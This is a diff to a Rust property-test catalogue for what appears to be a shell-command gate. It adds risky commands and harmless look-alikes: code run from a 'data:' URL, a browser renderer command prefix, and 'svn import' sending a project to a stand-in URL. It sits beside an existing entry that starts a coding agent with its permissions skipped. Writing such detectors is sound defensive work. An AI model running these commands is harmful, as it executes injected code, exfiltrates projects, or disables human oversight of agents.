@@ -465,7 +465,10 @@ fn option_glob() -> impl Strategy<Value = String> {
 /// plumbing that loses work or re-points a remote (`update-ref -d`, `remote
 /// set-url`), an archiver deleting what it archived (`zip -rm`), a coding agent
 /// started with its approvals off or a program registered for its later sessions
-/// (`claude --dangerously-skip-permissions`, `claude mcp add`)
+/// (`claude --dangerously-skip-permissions`, `claude mcp add`), code given as a
+/// `data:` URL where a file of code goes (`node --import data:…`), a browser's
+/// program prefix (`--renderer-cmd-prefix`), another VCS sending the project to a
+/// URL (`svn import . URL`)
 /// — each with a look-alike
 /// that is harmless, written in any of the option spellings the programs accept.
 fn catalogue_class() -> impl Strategy<Value = String> {
@@ -499,6 +502,12 @@ fn catalogue_class() -> impl Strategy<Value = String> {
         "claude mcp list",
         "bashgate uninstall claude-code",
         "bashgate check x",
+        "node --import data:text/javascript,x app.js",
+        "node --import ./setup.mjs app.js",
+        "chromium --renderer-cmd-prefix=id https://x.example",
+        "xdg-open README.md",
+        "svn import . https://x.example/svn/r -m x",
+        "svn commit -m x",
         "tar --remove-files -cf x.tar src",
         "zip -rm x.zip src",
         "zip -r x.zip src",
